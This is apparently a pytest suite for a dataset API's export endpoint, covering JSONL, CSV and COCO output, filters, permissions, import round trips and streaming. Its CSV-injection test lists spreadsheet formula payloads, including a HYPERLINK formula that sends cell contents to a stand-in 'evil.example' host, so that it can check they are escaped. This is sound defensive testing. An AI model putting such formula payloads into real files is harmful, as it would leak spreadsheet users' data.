"""GET /datasets/{id}/export over HTTP: the three formats, filters and read scopes, the errors
before the stream, round trips through the import, and the stream itself (chunks, backpressure,
a client that goes away, a failure half-way, one snapshot)."""

import csv
import io
import json
import re
import threading
import time

import anyio
import peewee
import pytest

from dataset_api.db import db, is_postgresql
from dataset_api.models import Dataset, Entry
from dataset_api.transfer import exporter, formats, lines, stream
from tests import factories as f

NDJSON, CSV, COCO = "application/x-ndjson", "text/csv", "application/json"
BOX = {"x": 10, "y": 20, "w": 30, "h": 40, "image_width": 640, "image_height": 480}


def export(api, dataset, query="", accept=NDJSON, status=200):
    resp = api.get(f"/datasets/{f.id_of(dataset)}/export{query}", headers={"Accept": accept})
    assert resp.status_code == status, resp.text
    return resp


def jsonl(resp):
    return [json.loads(line) for line in resp.text.splitlines()]


def world(api):
    """An image dataset (labels bird, sky) of three entries: the first with a bird box (and the
    image's size) and a note without a box, the second with a box of an unknown label."""
    birds = f.project(api)
    photos = f.dataset(api, birds, labels=["bird", "sky"])
    made = f.entries(api, photos, 3)
    f.annotation(api, made[0], dimensions=BOX, metadata={"tool": "box"})
    f.annotation(api, made[0], label="sky", dimensions={"note": "no box"})
    f.annotation(api, made[1], label="cloud", dimensions={"x": 1, "y": 2, "w": 3, "h": 4})
    return {"project": birds, "dataset": photos, "entries": made}


def importable(record):
    """What an import keeps of an export line: the entry's values and its annotations' contents."""
    return (record["resource"], record["priority"], record["job_id"],
            [(a["dimensions"], a["annotation"], a["metadata"]) for a in record["annotations"]])


def test_jsonl_lists_the_entries_oldest_first_each_a_valid_import_line(api):
    made = world(api)
    resp = export(api, made["dataset"])
    assert resp.headers["content-type"] == NDJSON
    assert resp.headers["content-disposition"] == f'attachment; filename="{made["dataset"]["id"]}.jsonl"'
    records = jsonl(resp)
    assert [r["id"] for r in records] == [e["id"] for e in made["entries"]]
    first = records[0]
    assert list(first) == ["id", "resource", "priority", "job_id", "wf_step", "status", "assigned_to_id",
                           "submitted_by_id", "reviewed_by_id", "error_message", "created_at", "updated_at",
                           "annotations"]
    assert first["created_at"] == made["entries"][0]["attributes"]["created_at"]
    assert [(a["annotation"]["label"], a["metadata"], a["created_by_email"]) for a in first["annotations"]] \
        == [("bird", {"tool": "box"}, "admin@example.com"), ("sky", {}, "admin@example.com")]
    assert records[2]["annotations"] == []
    for record in records:
        line = lines.check(record)
        assert (line.resource, line.priority, line.job_id) == importable(record)[:3]


def test_csv_has_the_import_columns_then_the_export_only_ones(api):
    made = world(api)
    f.stored(Entry, made["entries"][1], job_id="job-1")
    resp = export(api, made["dataset"], "?format=csv", accept="*/*")
    assert resp.headers["content-type"] == "text/csv; charset=utf-8"
    assert resp.headers["content-disposition"].endswith('.csv"')
    assert "\r\n" in resp.text  # RFC 4180
    reader = csv.reader(io.StringIO(resp.text))
    header = next(reader)
    assert header == [*lines.CSV_COLUMNS, *formats.EXPORT_ONLY]
    assert set(formats.EXPORT_ONLY) == lines.ENTRY_IGNORED
    assert lines.csv_header(header) == header
    rows = [dict(zip(header, row, strict=True)) for row in reader]
    assert [(r["resource"], r["job_id"], r["assigned_to_id"]) for r in rows] == [
        ("img-0.png", "", ""), ("img-1.png", "job-1", ""), ("img-2.png", "", "")]
    by_json = jsonl(export(api, made["dataset"]))
    for row, record in zip(rows, by_json, strict=True):
        assert json.loads(row["annotations"]) == record["annotations"]
        line = lines.from_csv(row)
        assert (line.resource, line.priority, line.job_id) == importable(record)[:3]


def test_coco_maps_labels_boxes_and_image_sizes_and_loads_in_pycocotools(api, tmp_path):
    from pycocotools.coco import COCO as CocoApi

    made = world(api)
    # labels written as objects too (older datasets hold them): matched by id, name or label
    f.stored(Dataset, made["dataset"], labels=["bird", {"id": "sky", "name": "Sky", "supercategory": "air"}])
    f.annotation(api, made["entries"][2], label="sky", dimensions={"x": 0, "y": 0.5, "w": 2.5, "h": 2})
    resp = export(api, made["dataset"], "?format=coco", accept="*/*")
    assert resp.headers["content-type"] == COCO
    assert resp.headers["content-disposition"].endswith('.json"')
    coco = resp.json()
    assert coco["categories"] == [{"id": 1, "name": "bird"},
                                  {"id": 2, "name": "Sky", "supercategory": "air"}]
    assert coco["images"] == [
        {"id": 1, "file_name": "img-0.png", "width": 640, "height": 480},
        {"id": 2, "file_name": "img-1.png", "width": None, "height": None},
        {"id": 3, "file_name": "img-2.png", "width": None, "height": None}]
    assert coco["annotations"] == [
        {"id": 1, "image_id": 1, "category_id": 1, "bbox": [10, 20, 30, 40], "area": 1200, "iscrowd": 0},
        {"id": 2, "image_id": 3, "category_id": 2, "bbox": [0, 0.5, 2.5, 2], "area": 5.0, "iscrowd": 0}]
    assert coco["info"]["annotations_without_box"] == 1
    assert coco["info"]["annotations_with_unknown_label"] == 1
    path = tmp_path / "coco.json"
    path.write_bytes(resp.content)
    loaded = CocoApi(str(path))
    assert loaded.getImgIds() == [1, 2, 3]
    assert loaded.getAnnIds(imgIds=[1]) == [1]
    assert [c["name"] for c in loaded.loadCats(loaded.getCatIds())] == ["bird", "Sky"]


@pytest.mark.parametrize(("accept", "media"), [
    ("text/csv", "text/csv; charset=utf-8"),
    ("application/json", COCO),
    ("*/*", NDJSON),
    ("text/*", "text/csv; charset=utf-8"),
    ("text/csv;q=0.5, application/x-ndjson", NDJSON),
    ("application/*", NDJSON),
])
def test_without_format_accept_picks_it(api, accept, media):
    made = world(api)
    assert export(api, made["dataset"], accept=accept).headers["content-type"] == media


def test_format_wins_over_accept(api):
    made = world(api)
    assert export(api, made["dataset"], "?format=jsonl", accept="*/*").headers["content-type"] == NDJSON


def test_coco_is_for_image_datasets(api):
    texts = f.dataset(api, f.project(api), modality="text")
    error = export(api, texts, "?format=coco", accept=COCO, status=400).json()["errors"][0]
    assert error["source"] == {"parameter": "format"}
    assert error["code"] == "bad_request"
    # asked for by Accept alone, COCO is not offered: JSON is all it allows
    assert export(api, texts, accept=COCO, status=406).json()["errors"][0]["status"] == "406"
    assert export(api, texts, accept=f"{COCO}, {CSV}").headers["content-type"].startswith(CSV)


def test_the_index_filters_narrow_it(api):
    made = world(api)
    f.stored(Entry, made["entries"][1], wf_step="done", status="completed")
    done = jsonl(export(api, made["dataset"], "?filter[wf_step]=done"))
    assert [r["id"] for r in done] == [made["entries"][1]["id"]]
    assert [r["resource"] for r in jsonl(export(api, made["dataset"], "?filter[priority__gte]=1"
                                                                      "&filter[wf_step__neq]=done"))] \
        == ["img-2.png"]


@pytest.mark.parametrize("query", ["filter[bogus]=1", "filter[priority]=abc", "filter[created_at__gt]=soon"])
def test_a_bad_filter_is_the_index_400(api, query):
    made = world(api)
    listed = api.get(f"/entries?filter[dataset_id]={made['dataset']['id']}&{query}")
    exported = export(api, made["dataset"], f"?{query}", status=400)
    assert listed.status_code == 400
    assert exported.json()["errors"][0]["source"] == listed.json()["errors"][0]["source"]


def test_a_worker_exports_what_it_can_list(api, client):
    made = world(api)
    f.member(api, made["project"], 5)
    more = f.entries(api, made["dataset"], 2, prefix="later")
    f.stored(Entry, made["entries"][0], wf_step="review")  # another step: not the annotator's
    f.stored(Entry, more[0], assigned_to_id=6)  # someone else's
    worker = f.caller(client, 5)
    listed = f.expect(worker.get(f"/entries?filter[dataset_id]={made['dataset']['id']}"), 200)
    exported = jsonl(export(worker, made["dataset"]))
    assert sorted(r["id"] for r in exported) == sorted(e["id"] for e in listed)
    assert {r["resource"] for r in exported} == {"img-1.png", "img-2.png", "later-1.png"}
    assert jsonl(export(worker, made["dataset"], "?filter[resource__prefix]=later")) \
        == [r for r in exported if r["resource"].startswith("later")]


def test_another_organizations_dataset_is_404(api, client):
    made = world(api)
    stranger = f.caller(client, 9, role="org_owner", orgs=(8,))
    outsider = f.caller(client, 10)
    for who in (stranger, outsider):
        assert export(who, made["dataset"], status=404).json()["errors"][0]["code"] == "not_found"
    assert export(api, "0193a1b2-0000-7000-8000-00000000dead", status=404).status_code == 404
    # the owner of the other organization sees its own
    assert export(f.caller(client, 9, role="org_owner", orgs=(7,)), made["dataset"]).status_code == 200


@pytest.mark.parametrize(("fmt", "media"), [("jsonl", NDJSON), ("csv", "text/csv")])
def test_an_export_imports_again_into_a_fresh_dataset(api, fmt, media):
    made = world(api)
    f.stored(Entry, made["entries"][1], job_id="job, \"quoted\"\nline")
    first = export(api, made["dataset"], f"?format={fmt}")
    copy = f.dataset(api, made["project"], "Copy", labels=["bird", "sky"])
    resp = api.post(f"/datasets/{copy['id']}/import", raw=first.content, headers={"Content-Type": media})
    assert resp.status_code == 200, resp.text
    assert resp.json()["meta"]["created"] == 3
    again = jsonl(export(api, copy))
    assert [importable(r) for r in again] == [importable(r) for r in jsonl(export(api, made["dataset"]))]
    assert again[1]["job_id"] == "job, \"quoted\"\nline"


# stored JSON the export copies through as the database holds it (SQLite: the text json() wrote;
# PostgreSQL: jsonb, decoded by the driver and encoded once): escapes, non-ASCII, deep nesting,
# integers past 64 bits, floats that print with an exponent, empty containers
TRICKY = {
    "dimensions": {"x": 1e-7, "y": 12345678901234567890123, "w": 0.1, "h": 2.5, "image_width": 640,
                   "image_height": 480, "e": {}, "a": [], "neg": -1.5e-300, "big": 1.7976931348623157e308,
                   "n": None, "t": True, "f": False, "s": "a, b: c [1, 2] {}", "u": "é✓"},
    "annotation": {"label": "пти́ца \"🐦\"",
                   "text": "tab\t nl\n cr\r quote\" back\\ slash/ \u2028 \x01 \x7f é",
                   "deep": [[[{"k": [None, {"": ""}]}]]], "ключ, : {}": "a, b: c"},
    "metadata": {},
}


def _same(a, b):
    """Equal, and of the same JSON types all the way down (1 == 1.0 and True == 1 in Python)."""
    if type(a) is not type(b):
        return False
    if isinstance(a, dict):
        return list(a) == list(b) and all(_same(a[k], b[k]) for k in a)
    if isinstance(a, list):
        return len(a) == len(b) and all(_same(x, y) for x, y in zip(a, b, strict=True))
    return a == b


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "coco"])
def test_stored_json_is_exported_exactly_as_stored(api, fmt):
    from dataset_api.models import Annotation

    project = f.project(api)
    photos = f.dataset(api, project, labels=["bird", TRICKY["annotation"]["label"]])
    made = f.entry(api, photos, 's3://b/ü "q" \\ \t.png', job_id="job\n\u2028é")
    f.annotation(api, made, **TRICKY)  # written by the API (JSONField)
    line = {"resource": "imported.png", "annotations": [TRICKY, {**TRICKY, "metadata": {"i": -2**63 - 1}}]}
    resp = api.post(f"/datasets/{photos['id']}/import", raw=json.dumps(line, ensure_ascii=False).encode(),
                    headers={"Content-Type": NDJSON})  # written by the import (its own SQL)
    assert resp.status_code == 200, resp.text
    with db.connection_context():
        stored = [(a.dimensions, a.annotation, a.metadata)
                  for a in Annotation.select().order_by(Annotation.created_at, Annotation.id)]
    assert len(stored) == 3
    got = export(api, photos, f"?format={fmt}", accept="*/*")
    if fmt == "coco":
        coco = json.loads(got.text)  # valid JSON, whose boxes are the stored numbers, labels matched
        dimensions = stored[0][0]
        assert _same(coco["annotations"][0]["bbox"], [dimensions[k] for k in ("x", "y", "w", "h")])
        assert [a["category_id"] for a in coco["annotations"]] == [2, 2, 2]
        assert coco["images"][0] == {"id": 1, "file_name": 's3://b/ü "q" \\ \t.png',
                                     "width": 640, "height": 480}
        return
    if fmt == "csv":
        rows = list(csv.DictReader(io.StringIO(got.text, newline="")))
        records = [{**r, "annotations": json.loads(r["annotations"])} for r in rows]
        assert records[0]["job_id"] == "job\n\u2028é"
    else:
        texts = got.text.split("\n")  # not splitlines(): U+2028 is a line break to it, not to NDJSON
        assert texts.pop() == "" and len(texts) == 2
        records = [json.loads(text) for text in texts]
        assert records[0]["job_id"] == "job\n\u2028é"
        outside_strings = [re.sub(r'"(?:[^"\\]|\\.)*"', '""', text) for text in texts]
        assert all(" " not in text for text in outside_strings)  # compact, as lines.dump writes
    assert records[0]["resource"] == 's3://b/ü "q" \\ \t.png'
    exported = [(a["dimensions"], a["annotation"], a["metadata"]) for r in records for a in r["annotations"]]
    assert _same(exported, stored)
    assert [list(a) for r in records for a in r["annotations"]] == 3 * [
        ["id", "dimensions", "annotation", "metadata", "created_by_email", "created_at", "updated_at"]]


def test_an_export_line_is_what_lines_dump_writes_of_it(api):
    """The line is written piece by piece: it is byte for byte the compact JSON of its values."""
    made = world(api)
    f.stored(Entry, made["entries"][1], job_id="a\tb \"c\" ü", assigned_to_id=2**40, error_message="é\n")
    for text in export(api, made["dataset"]).text.split("\n")[:-1]:
        assert text == lines.dump(json.loads(text))


# a text, and the CSV cell it is exported as: OWASP's CSV-injection guard (a leading ' before what a
# spreadsheet would evaluate), and another ' before a text the import would otherwise read back changed
GUARDED = {
    '=HYPERLINK("http://evil.example/?"&A1,"open")': '\'=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+2": "'+1+2", "-3": "'-3", "@SUM(A1:A9)": "'@SUM(A1:A9)", "\tTAB": "'\tTAB", "\rCR": "'\rCR",
    "'=1": "''=1", "''=1": "'''=1", "'+x": "''+x", "'-": "''-", "'@": "''@", "'\t": "''\t", "'\r": "''\r",
    "''": "'''", "'": "'", "'a": "'a", "a=b": "a=b", "plain.png": "plain.png",
}


def test_csv_cells_a_spreadsheet_would_evaluate_are_guarded_and_read_back_exactly(api):
    project = f.project(api)
    original = f.dataset(api, project)
    for n, text in enumerate(GUARDED):
        f.entry(api, original, text, job_id=text, priority=-n)
    resp = export(api, original, "?format=csv")
    rows = list(csv.DictReader(io.StringIO(resp.text, newline="")))
    assert [(r["resource"], r["job_id"]) for r in rows] == [(cell, cell) for cell in GUARDED.values()]
    assert [r["priority"] for r in rows] == [str(-n) for n in range(len(GUARDED))]  # numbers stay numbers
    copy = f.dataset(api, project, "Copy")
    imported = api.post(f"/datasets/{copy['id']}/import", raw=resp.content, headers={"Content-Type": CSV})
    assert imported.json()["meta"]["created"] == len(GUARDED), imported.text
    assert [importable(r) for r in jsonl(export(api, copy))] == \
        [(text, -n, text, []) for n, text in enumerate(GUARDED)]


# --- the formats, without the app ------------------------------------------------------------------

@pytest.mark.parametrize(("accept", "image", "chosen"), [
    (None, True, "jsonl"), ("", False, "jsonl"), ("*/*", True, "jsonl"), ("text/*", True, "csv"),
    ("application/json", True, "coco"), ("application/json", False, None),
    ("application/json, text/csv;q=0.1", False, "csv"), ("application/json;q=0, */*", True, "jsonl"),
    ("text/csv;q=0.5, application/x-ndjson", True, "jsonl"), ("TEXT/CSV", True, "csv"),
    ("image/png", True, None), ("text/csv;q=x", True, None),
])
def test_accept_picks_a_format(accept, image, chosen):
    assert formats.negotiate(accept, image) == chosen


@pytest.mark.parametrize(("dimensions", "bbox"), [
    ({"x": 1, "y": 2, "w": 3, "h": 4}, [1, 2, 3, 4]),
    ({"x": 0.5, "y": -2, "w": 0, "h": 4.25, "rotation": 9}, [0.5, -2, 0, 4.25]),
    ({"x": 1, "y": 2, "w": 3}, None), ({"x": "1", "y": 2, "w": 3, "h": 4}, None),
    ({"x": True, "y": 2, "w": 3, "h": 4}, None), ({"x": 1, "y": 2, "w": -3, "h": 4}, None),
    ({"x": 1, "y": 2, "w": 1e200, "h": 1e200}, None), ({"points": [[1, 2]]}, None),
])
def test_a_box_is_four_numbers(dimensions, bbox):
    assert formats.box(dimensions) == bbox


@pytest.mark.parametrize(("jsonb", "compact"), [
    ('{"a": 1, "b": [2, 3], "c": {}, "d": []}', '{"a":1,"b":[2,3],"c":{},"d":[]}'),
    ('{"k, : ": "v, w: x", "n": 0.0000001}', '{"k, : ":"v, w: x","n":0.0000001}'),  # strings kept
    ('{"q\\"": "a, \\"b\\": c", "t": "\\u0001"}', '{"q\\"":"a, \\"b\\": c","t":"\\u0001"}'),  # escapes
    ("{}", "{}"), ("[]", "[]"),
])
def test_jsonb_text_is_made_compact(jsonb, compact):
    assert exporter._compact(jsonb) == compact
    assert json.loads(compact) == json.loads(jsonb)


def test_categories_from_text_and_object_labels():
    found, keys = formats.categories(["bird", {"id": "sky", "name": "Sky"}, {"label": "Nest", "id": 7},
                                      {"colour": "red"}, 5, True, None])
    assert found == [{"id": 1, "name": "bird"}, {"id": 2, "name": "Sky"}, {"id": 3, "name": "Nest"},
                     {"id": 4, "name": "5"}]
    assert keys == {"bird": 1, "Sky": 2, "sky": 2, "Nest": 3, "7": 3, "5": 4}


# --- the stream -----------------------------------------------------------------------------------

def asgi_get(app, path, headers, on_body=None, messages=None):
    """GET ``path`` straight through the ASGI app (as uvicorn calls it, spec 2.3), without a test
    client's buffering: returns the messages sent (into ``messages`` if given). ``on_body(message,
    gone)`` runs at each body message; setting ``gone`` makes the client disconnect."""
    messages = [] if messages is None else messages
    raw_path, _, query = path.partition("?")

    async def run():
        gone, asked = anyio.Event(), []

        async def receive():
            if not asked:
                asked.append(True)
                return {"type": "http.request", "body": b"", "more_body": False}
            await gone.wait()
            return {"type": "http.disconnect"}

        async def send(message):
            messages.append(message)
            if on_body is not None and message["type"] == "http.response.body":
                await on_body(message, gone)

        scope = {"type": "http", "asgi": {"version": "3.0", "spec_version": "2.3"}, "http_version": "1.1",
                 "method": "GET", "scheme": "http", "path": raw_path, "raw_path": raw_path.encode(),
                 "query_string": query.encode(), "root_path": "", "client": ("127.0.0.1", 50000),
                 "server": ("testserver", 80),
                 "headers": [(k.lower().encode(), v.encode()) for k, v in headers.items()]}
        await app(scope, receive, send)

    anyio.run(run)
    return messages


def causes(exc):
    """The types of ``exc`` and of the exceptions it was raised from, or while handling."""
    found = []
    while exc is not None:
        found.append(type(exc))
        exc = exc.__cause__ or exc.__context__
    return found


def bodies(messages):
    return [m["body"] for m in messages if m["type"] == "http.response.body" and m["body"]]


def export_threads():
    return [t for t in threading.enumerate() if t.name.startswith("export-")]


def settled():
    """Wait for every export thread to end; True when the pool has every connection back."""
    for thread in export_threads():
        thread.join(10)
    return not export_threads() and not db.obj._in_use


def big_dataset(api, count):
    photos = f.dataset(api, f.project(api))
    body = "".join(json.dumps({"resource": f"s3://big/{i:05d}.jpg", "priority": i % 7,
                               "annotations": [{"dimensions": {"x": i, "y": 1, "w": 2, "h": 3},
                                                "annotation": {"label": "bird"}}]}) + "\n"
                   for i in range(count))
    resp = api.post(f"/datasets/{photos['id']}/import", raw=body.encode(),
                    headers={"Content-Type": NDJSON})
    assert resp.status_code == 200, resp.text
    return photos


def test_a_large_export_streams_in_many_pieces(app, api):
    photos = big_dataset(api, 5000)
    started = time.perf_counter()
    messages = asgi_get(app, f"/datasets/{photos['id']}/export", api.headers({"Accept": NDJSON}))
    elapsed = time.perf_counter() - started
    assert messages[0]["status"] == 200
    pieces = bodies(messages)
    assert len(pieces) > 5
    assert all(len(p) < 2 * formats.PIECE_BYTES for p in pieces)
    records = [json.loads(line) for line in b"".join(pieces).splitlines()]
    assert [r["resource"] for r in records] == [f"s3://big/{i:05d}.jpg" for i in range(5000)]
    assert elapsed < 15
    assert settled()


@pytest.fixture
def small_pieces(monkeypatch):
    """Chunks of 2 entries, one piece per chunk, one piece waiting at most: every step shows."""
    monkeypatch.setattr(exporter, "CHUNK", 2)
    monkeypatch.setattr(stream, "QUEUE_PIECES", 1)
    monkeypatch.setattr(formats, "PIECE_BYTES", 1)


def test_a_slow_client_holds_the_reading_back(app, api, monkeypatch, small_pieces):
    made = f.dataset(api, f.project(api))
    f.entries(api, made, 20)
    reads = []
    real = exporter._annotations
    monkeypatch.setattr(exporter, "_annotations", lambda ids: reads.append(len(ids)) or real(ids))
    seen = []

    async def slow(message, gone):
        if not seen:
            await anyio.sleep(0.5)  # the client reads nothing meanwhile
            seen.append(len(reads))

    messages = asgi_get(app, f"/datasets/{made['id']}/export", api.headers({"Accept": NDJSON}), slow)
    assert seen[0] <= 3  # the piece sent, the one waiting, the one being handed over
    assert len(reads) == 10
    assert len(b"".join(bodies(messages)).splitlines()) == 20
    assert settled()


def test_a_client_that_goes_away_stops_the_thread_and_frees_its_connection(app, api, monkeypatch,
                                                                           small_pieces):
    made = f.dataset(api, f.project(api))
    f.entries(api, made, 20)
    reads = []
    real = exporter._annotations
    monkeypatch.setattr(exporter, "_annotations", lambda ids: reads.append(len(ids)) or real(ids))

    async def leave(message, gone):
        gone.set()
        await anyio.sleep(0.2)

    asgi_get(app, f"/datasets/{made['id']}/export", api.headers({"Accept": NDJSON}), leave)
    assert settled()
    assert len(reads) < 10


def test_a_client_that_reads_nothing_for_too_long_is_dropped(app, api, monkeypatch, small_pieces):
    monkeypatch.setattr(stream, "STALL_SECONDS", 0.2)
    made = f.dataset(api, f.project(api))
    f.entries(api, made, 20)

    async def stall(message, gone):
        await anyio.sleep(1)

    messages = []
    with pytest.raises(Exception) as caught:
        asgi_get(app, f"/datasets/{made['id']}/export", api.headers({"Accept": NDJSON}), stall, messages)
    assert anyio.ClosedResourceError in causes(caught.value)  # the channel the thread closed
    assert len(bodies(messages)) < 20
    assert settled()


def test_a_failure_half_way_cuts_the_response_short(app, api, monkeypatch, small_pieces):
    made = f.dataset(api, f.project(api))
    f.entries(api, made, 6)
    real, calls = exporter._annotations, []

    def failing(ids):
        calls.append(ids)
        if len(calls) == 2:
            raise peewee.OperationalError("server closed the connection unexpectedly")
        return real(ids)

    monkeypatch.setattr(exporter, "_annotations", failing)
    messages = []
    with pytest.raises(Exception) as caught:
        asgi_get(app, f"/datasets/{made['id']}/export", api.headers({"Accept": NDJSON}), messages=messages)
    assert stream.Aborted in causes(caught.value)
    assert not any(m.get("more_body") is False for m in messages if m["type"] == "http.response.body")
    assert settled()


def test_the_export_reads_one_snapshot(app, api, small_pieces):
    made = f.dataset(api, f.project(api))
    items = f.entries(api, made, 10)
    changed = []

    def change():
        with db.connection_context():
            Entry.delete().where(Entry.id == items[-1]["id"]).execute()
            Entry.update(priority=99).where(Entry.id == items[-2]["id"]).execute()

    async def meanwhile(message, gone):
        if not changed:
            changed.append(True)
            await anyio.to_thread.run_sync(change)

    messages = asgi_get(app, f"/datasets/{made['id']}/export", api.headers({"Accept": NDJSON}), meanwhile)
    records = [json.loads(line) for line in b"".join(bodies(messages)).splitlines()]
    assert [(r["resource"], r["priority"]) for r in records] == [(f"img-{i}.png", i) for i in range(10)]
    assert [r["priority"] for r in jsonl(export(api, made))] == [*range(8), 99]
    assert settled()


def test_entries_created_at_the_same_time_are_neither_skipped_nor_repeated(api, small_pieces):
    made = f.dataset(api, f.project(api))
    items = f.entries(api, made, 7)
    for item in items:
        f.stored(Entry, item, created_at="2026-01-01 00:00:00")
    f.stored(Entry, items[0], created_at="2025-12-31 23:59:59.999999")
    exported = [r["id"] for r in jsonl(export(api, made))]
    assert exported == [items[0]["id"], *sorted(item["id"] for item in items[1:])]


def test_two_statements_a_chunk_however_many_annotations(api, monkeypatch, small_pieces):
    """Each chunk of entries is one SELECT, and their annotations one more: no statement per entry."""
    made = f.dataset(api, f.project(api))
    seen, real = [], db.obj.execute_sql

    def execute_sql(sql, params=None, *args, **kwargs):
        seen.append(sql)
        return real(sql, params, *args, **kwargs)

    def statements():
        seen.clear()
        monkeypatch.setattr(db.obj, "execute_sql", execute_sql)
        try:
            records = jsonl(export(api, made))
        finally:
            monkeypatch.setattr(db.obj, "execute_sql", real)
        return records, len(seen), sum('FROM "annotation"' in sql for sql in seen)

    for item in f.entries(api, made, 5):
        f.annotation(api, item)
        f.annotation(api, item, label="sky")
    small, small_count, small_notes = statements()
    for item in f.entries(api, made, 6, prefix="more"):
        f.annotation(api, item)
    large, large_count, large_notes = statements()
    assert (len(small), len(large)) == (5, 11)
    assert (small_notes, large_notes) == (3, 6)  # chunks of 2: one annotations SELECT each
    assert large_count - small_count == 2 * (large_notes - small_notes)


def plan(select):
    sql, params = select.sql()
    if is_postgresql():  # on a table this small a sequential scan is cheaper: rule it out
        with db.atomic():
            db.execute_sql("SET LOCAL enable_seqscan = off")
            return "\n".join(row[0] for row in db.execute_sql("EXPLAIN " + sql, params))
    return "\n".join(row[-1] for row in db.execute_sql("EXPLAIN QUERY PLAN " + sql, params))


def test_each_chunk_is_a_range_of_the_export_index_without_a_sort(api):
    made = f.dataset(api, f.project(api))
    f.entries(api, made, 30)
    select = Entry.select(*exporter.ENTRY_COLUMNS).where(Entry.dataset == made["id"])
    with db.connection_context():
        for after in (None, ("2026-01-01 00:00:00", "0193a1b2-0000-7000-8000-000000000000")):
            found = plan(exporter.page(select, after))
            assert "entry_dataset_created" in found, found
            assert "Sort" not in found and "TEMP B-TREE" not in found, found
